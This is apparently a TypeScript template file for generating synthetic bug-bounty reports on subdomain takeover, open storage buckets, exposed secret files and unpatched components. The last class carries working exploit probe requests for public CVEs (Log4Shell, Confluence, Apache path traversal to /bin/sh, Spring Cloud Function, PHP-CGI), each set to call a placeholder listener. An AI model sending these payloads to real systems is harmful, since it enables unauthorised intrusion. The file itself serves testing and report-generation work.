import type { VulnerabilityClass } from './vulnerability-class.ts'

const subdomainTakeover: VulnerabilityClass = {
  key: 'subdomain-takeover',
  type: 'Subdomain takeover',
  cwe: 672,
  weight: 5,
  surfaces: ['infrastructure', 'web'],
  shape: 'click',
  severities: [
    ['High', 4],
    ['Medium', 5],
    ['Low', 2],
  ],
  places: [
    { path: '/', parameter: 'CNAME', detail: 'a host for static pages where the name is free' },
    { path: '/', parameter: 'CNAME', detail: 'a help desk service that was cancelled' },
    { path: '/', parameter: 'NS', detail: 'name servers that no longer know the zone' },
    { path: '/', parameter: 'CNAME', detail: 'a storage bucket that was deleted' },
  ],
  titles: [
    'Subdomain takeover of «abandoned».«domain»',
    'Dangling «parameter» record: «abandoned».«domain» can be claimed by anybody',
    '«abandoned».«domain» still points to «detail»',
    'I own «abandoned».«domain» (takeover, proof inside)',
  ],
  summaries: [
    'The «parameter» record of `«abandoned».«domain»` points to «detail». I claimed it and now decide what is shown there.',
    '`«abandoned».«domain»` answers with "no such site" of a hosting provider. The name was free, so I claimed it to keep others from doing so. Please remove the record; I give the name back at once.',
  ],
  steps: [
    [
      'Ask for the record with `dig` as below.',
      'Open `https://«abandoned».«domain»/«handle».txt`: it holds my handle and the time of the claim.',
      'There is nothing else on the page, and no visitor is logged.',
    ],
    [
      'Resolve `«abandoned».«domain»`.',
      'Compare with the provider: the name behind it was free until today.',
      'See my proof file. I will release the name as soon as you tell me that the record is gone.',
    ],
  ],
  proofs: [
    [
      {
        say: 'DNS and proof:',
        lang: 'bash',
        code: `$ dig +short CNAME «abandoned».«domain»
«slug»-«abandoned».sites.hosting.example.

$ curl -s https://«abandoned».«domain»/«handle».txt
takeover proof, «handle», please contact me through the programme`,
      },
    ],
    [
      {
        say: 'Before I claimed it:',
        lang: 'http',
        code: `GET / HTTP/1.1
Host: «abandoned».«domain»

HTTP/1.1 404 Not Found
Content-Type: text/html

<h1>There is no site here</h1><p>If this is your domain, add it in the dashboard.</p>`,
      },
    ],
  ],
  impacts: [
    'Pages under the name of «company» that anybody could fill: phishing with a valid certificate. Cookies for `.«domain»` reach the page, the session cookie of «host» is among them.',
    'The domain is on the allow list of the content security policy and of the OAuth redirect addresses, so a takeover leads further to accounts.',
    'Loss of reputation, phishing, and scripts that are trusted because of `*.«domain»`.',
  ],
  fixes: [
    'Delete the record first, then the service behind it, and look for others with the same target.',
    'Remove the record. A weekly job that resolves all names of the zone finds these.',
  ],
  notes: [
    'Record is left over from the campaign in 2023. DNS team removed it, TTL 3600. Reporter released the name.',
    'Session cookie is host-only, checked. So no account takeover, but the name is in our CSP. High → Medium.',
  ],
}

const storageExposure: VulnerabilityClass = {
  key: 'storage-exposure',
  type: 'Cloud storage exposure',
  cwe: 732,
  weight: 4,
  surfaces: ['infrastructure', 'web', 'mobile'],
  shape: 'read',
  severities: [
    ['Critical', 2],
    ['High', 4],
    ['Medium', 3],
  ],
  places: [
    { path: '/', parameter: 'list', detail: 'can be listed' },
    { path: '/', parameter: 'acl', detail: 'can be written by everybody' },
    { path: '/', parameter: 'policy', detail: 'is readable for every account of the provider' },
  ],
  titles: [
    'Storage bucket `«bucket»` «detail»',
    'Public bucket with «many» of customers (`«bucket»`)',
    'S3 bucket «bucket» open: backups and «many» inside',
    'Misconfigured object storage leaks «secrets»',
  ],
  summaries: [
    'The bucket `«bucket»`, which «host» uses for «many», «detail». Among the «big» objects are files with «secrets».',
    'Without any credentials I can list `«bucket»`. I opened one file to be sure what it is and deleted it afterwards.',
  ],
  steps: [
    [
      'Look at the network tab of «host»: uploads go to `«bucket».objects.example`.',
      'List it without a signature as shown.',
      'Names of the files speak for themselves. I downloaded exactly one, a file that I had uploaded with my own account.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Listing, shortened and with names masked:',
        lang: 'xml',
        code: `<ListBucketResult>
  <Name>«bucket»</Name>
  <MaxKeys>1000</MaxKeys>
  <IsTruncated>true</IsTruncated>
  <Contents><Key>2026/11/«segment»-export-11-18.csv.gz</Key><Size>48213007</Size></Contents>
  <Contents><Key>2026/11/users-1k-sample.json</Key><Size>412998</Size></Contents>
  <Contents><Key>terraform.tfstate</Key><Size>91822</Size></Contents>
</ListBucketResult>`,
      },
    ],
    [
      {
        say: 'With the command line tool, no profile configured:',
        lang: 'bash',
        code: `$ s3 ls s3://«bucket»/ --no-sign-request --endpoint https://objects.example | head -4
                           PRE 2026/
2026-11-18 02:00:41   48213007 «segment»-export.csv.gz
2026-11-02 02:00:12      91822 terraform.tfstate
2026-10-30 14:22:09       1704 deploy_key`,
      },
    ],
  ],
  impacts: [
    'Everybody on the internet can download «many» with «secrets». The listing goes back several years.',
    'A state file with credentials lies in the bucket. I did not use them; please rotate them in any case.',
  ],
  fixes: ['Block public access for the whole account and hand out signed addresses for single objects.'],
  notes: [
    'Bucket closed within 20 minutes by on-call. Access logs say: nobody but the reporter in 90 days (logging is on, good).',
    'It is ours, tag owner=«slug»-data. Credentials in the state file are rotated, see «ticket».',
  ],
}

const informationDisclosure: VulnerabilityClass = {
  key: 'information-disclosure',
  type: 'Information disclosure',
  cwe: 200,
  weight: 6,
  surfaces: ['web', 'api', 'infrastructure'],
  shape: 'read',
  severities: [
    ['High', 2],
    ['Medium', 5],
    ['Low', 4],
  ],
  places: [
    {
      path: '/.git/config',
      parameter: '.git',
      detail: 'the Git repository',
      excerpt: `[remote "origin"]
	url = https://deploy:ghx_************************@git.«domain»/«slug»/web.git
	fetch = +refs/heads/*:refs/remotes/origin/*`,
    },
    {
      path: '/actuator/env',
      parameter: 'actuator',
      detail: 'the environment of the service',
      excerpt: `{"activeProfiles":["prod"],"propertySources":[{"name":"systemEnvironment","properties":{
  "SPRING_DATASOURCE_URL":{"value":"jdbc:postgresql://«internalHost»/app"},
  "SPRING_DATASOURCE_PASSWORD":{"value":"******"},
  "SEGMENT_WRITE_KEY":{"value":"q7Lm****************"}}}]}`,
    },
    {
      path: '/server-status',
      parameter: 'server-status',
      detail: 'the status page with the requests of everybody',
      excerpt: `Srv  Client          Request
0-4  203.0.113.18    GET /reset?token=9f2c************ HTTP/1.1
1-4  198.51.100.7    GET «collection»/«otherId» HTTP/1.1
2-4  10.4.0.9        POST /login HTTP/1.1`,
    },
    {
      path: '/.env.bak',
      parameter: '.env',
      detail: 'a copy of the environment file',
      excerpt: `DB_HOST=«internalHost»
DB_USER=app_rw
DB_PASSWORD=Sup*************
SMTP_PASSWORD=k9*********
ERRORS_DSN=https://4f2c…@errors.«domain»/7`,
    },
    {
      path: '«collection»?expand=internal',
      parameter: 'expand',
      detail: 'an internal view of each record',
      excerpt: `{"id":«otherIdJson»,
  «record»,
  "riskScore": 71,
  "internalNote": "VIP, do not suspend without asking «staffRole»"}`,
    },
  ],
  titles: [
    '«Detail» is reachable on «host» (`«path»`)',
    'Information disclosure: `«path»` without authentication',
    'Exposed `«parameter»` on «host» leaks credentials',
    '«path» on «host» is open to everybody: «detail»',
  ],
  summaries: [
    '`https://«host»«path»` answers without a login and shows «detail».',
    'I found «detail» on «host». There are values in it that should not be public, see below (masked).',
  ],
  steps: [
    [
      'Open `https://«host»«path»` in a private window.',
      'The content is delivered with status 200.',
      'Search it for `password` or `secret`.',
    ],
    ['`curl` the address below.', 'Compare with another host of «company»: there it is 404.'],
  ],
  proofs: [
    [
      {
        say: 'What comes back (values cut by me):',
        lang: 'http',
        code: `GET «path» HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
Server: «server»
Content-Type: text/plain
Content-Length: «big»

«excerpt»`,
      },
    ],
    [
      {
        say: 'Check:',
        lang: 'bash',
        code: `$ curl -s -o dump -w '%{http_code} %{size_download}\\n' https://«host»«path»
200 «big»
$ head -4 dump
«excerpt»`,
      },
    ],
  ],
  impacts: [
    'The values open further doors: with a credential from there and any way into the network, the data of every «customer» is within reach.',
    'Internal host names, versions and sessions of other people become known, which makes every other attack easier.',
  ],
  fixes: ['Do not deploy these files, and deny such paths at the edge as a second line.'],
  notes: [
    'Reachable, yes. Credentials in it were rotated in September, tried them: refused. Medium.',
    'Only one of six pods has it, the canary. That is why the reporter saw 404 sometimes.',
  ],
}

const knownComponent: VulnerabilityClass = {
  key: 'known-component',
  type: 'Known vulnerable component',
  cwe: 1395,
  weight: 4,
  surfaces: ['infrastructure', 'web', 'device'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 4],
  ],
  places: [
    {
      path: '/login',
      parameter: 'User-Agent',
      detail: 'Log4j 2.14.1',
      cve: 'CVE-2021-44228',
      excerpt: `GET /login HTTP/1.1
Host: «host»
User-Agent: \${jndi:ldap://«listener»/«handle»}
X-Api-Version: \${jndi:dns://«listener»/v}`,
    },
    {
      path: '/wiki/pages/createpage-entervariables.action',
      parameter: 'queryString',
      detail: 'Confluence 7.12.4',
      cve: 'CVE-2021-26084',
      excerpt: `POST /wiki/pages/createpage-entervariables.action HTTP/1.1
Host: «host»
Content-Type: application/x-www-form-urlencoded

queryString=%5cu0027%2b%7b7*7%7d%2b%5cu0027`,
    },
    {
      path: '/cgi-bin/',
      parameter: 'path',
      detail: 'Apache HTTP Server 2.4.49',
      cve: 'CVE-2021-41773',
      excerpt: `POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1
Host: «host»
Content-Type: text/plain

echo; nslookup «listener»`,
    },
    {
      path: '/functionRouter',
      parameter: 'spring.cloud.function.routing-expression',
      detail: 'Spring Cloud Function 3.2.2',
      cve: 'CVE-2022-22963',
      excerpt: `POST /functionRouter HTTP/1.1
Host: «host»
spring.cloud.function.routing-expression: T(java.net.InetAddress).getByName("«listener»")
Content-Type: text/plain

x`,
    },
    {
      path: '/app/rest/users/id:1/tokens/RPC2',
      parameter: 'path',
      detail: 'TeamCity 2023.05.3',
      cve: 'CVE-2023-42793',
      excerpt: `POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1
Host: «host»

HTTP/1.1 400 Bad Request
# 400 and not 401: the token exists already, so the check of rights was passed. I created none.`,
    },
    {
      path: '/php-cgi/php-cgi.exe',
      parameter: 'query',
      detail: 'PHP 8.1.28 in CGI mode',
      cve: 'CVE-2024-4577',
      excerpt: `POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1
Host: «host»
Content-Type: text/plain

<?php gethostbyname('«listener»');`,
    },
  ],
  titles: [
    '«cve» on «host»: «detail» is not patched',
    'Pre-auth RCE, «detail» («cve»)',
    '«host» runs «detail», which is vulnerable to «cve» (confirmed, not just the version)',
    'Unpatched «detail» behind «host»',
  ],
  summaries: [
    '«host» runs «detail». I confirmed «cve» with a harmless callback, not by the version number alone.',
    'The component behind `«path»` is «detail». A patch for «cve» has been available for a long time; my probe shows that it is missing here.',
  ],
  steps: [
    [
      'Start a listener, here `«listener»`.',
      'Send the request below; the payload sits in `«parameter»`.',
      'A lookup arrives from the address of «company». No command was run.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Probe and callback:',
        lang: 'http',
        code: '«excerpt»',
      },
      {
        say: 'At the listener:',
        lang: 'text',
        code: '10:31:07 DNS A «listener» from «ip»\n10:31:07 DNS AAAA «listener» from «ip»',
      },
    ],
    [
      {
        say: 'The public template, only the detection part:',
        lang: 'bash',
        code: `$ nuclei -id «cve» -u https://«host» -interactsh-server oob.example -silent
[«cve»] [http] [critical] https://«host»«path» [«listener»]`,
      },
    ],
  ],
  impacts: [
    'Code execution before any login, with exploits in every toolbox. Treat the machine as touched until the logs say otherwise.',
    'Known and used by criminals («cve»). From this machine the internal network is one step away.',
  ],
  fixes: ['Update to the fixed release; until then block the path at the edge.'],
  notes: [
    'Callback confirmed from our egress. Host is a forgotten test system, was shut down at 11:05. Forensics has an image.',
    'WAF rule was in detect mode only. Patch window tonight, «ticket».',
  ],
}

export const exposureClasses: readonly VulnerabilityClass[] = [
  subdomainTakeover,
  storageExposure,
  informationDisclosure,
  knownComponent,
]
